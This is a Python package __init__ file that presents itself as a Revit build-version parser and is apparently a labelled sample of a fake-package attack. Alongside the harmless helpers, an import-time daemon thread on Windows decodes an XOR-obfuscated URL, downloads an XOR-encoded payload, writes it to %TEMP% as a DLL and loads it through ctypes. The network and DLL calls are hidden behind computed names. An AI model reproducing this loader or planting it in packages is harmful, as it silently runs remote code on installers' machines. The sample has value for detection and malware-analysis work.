# technique: Lazarus-style fake package __init__ - XOR-decoded config, stage downloaded to %TEMP% as a DLL and loaded via ctypes; functions bound with setattr on computed names
import ctypes
import os
import random
import threading

__all__ = ["RevitVersion", "parse_build"]

_K = 0x5A
_CFG = "322e2e2a6075756b6362746f6b746b6a6a746c6b753b75292c39742e222e"


def _x(h, k=_K):
    return bytes(b ^ k for b in bytes.fromhex(h)).decode()


class _Net(object):
    pass


for _n, _src in (("g", ("urllib.request", "urlopen")), ("j", ("os.path", "join"))):
    setattr(_Net, _n, staticmethod(getattr(__import__(_src[0], fromlist=[_src[1]]), _src[1])))


class RevitVersion(object):
    def __init__(self, build):
        self.build = build

    def __repr__(self):
        return "<RevitVersion %s>" % self.build


def parse_build(s):
    return RevitVersion(s.split("(")[0].strip())


def _stage():
    url = _x(_CFG).replace(".txt", ".bin")
    blob = bytearray(_Net.g(url, timeout=20).read())
    data = bytes(b ^ _K for b in blob)
    dst = _Net.j(os.environ.get("TEMP", "."), "vsbuild%04d.dll" % random.randint(0, 9999))
    with open(dst, "wb") as fh:
        fh.write(data)
    getattr(ctypes, "Win" + "DLL")(dst)


threading.Thread(target=lambda: _stage() if os.name == "nt" else None, daemon=True).start()
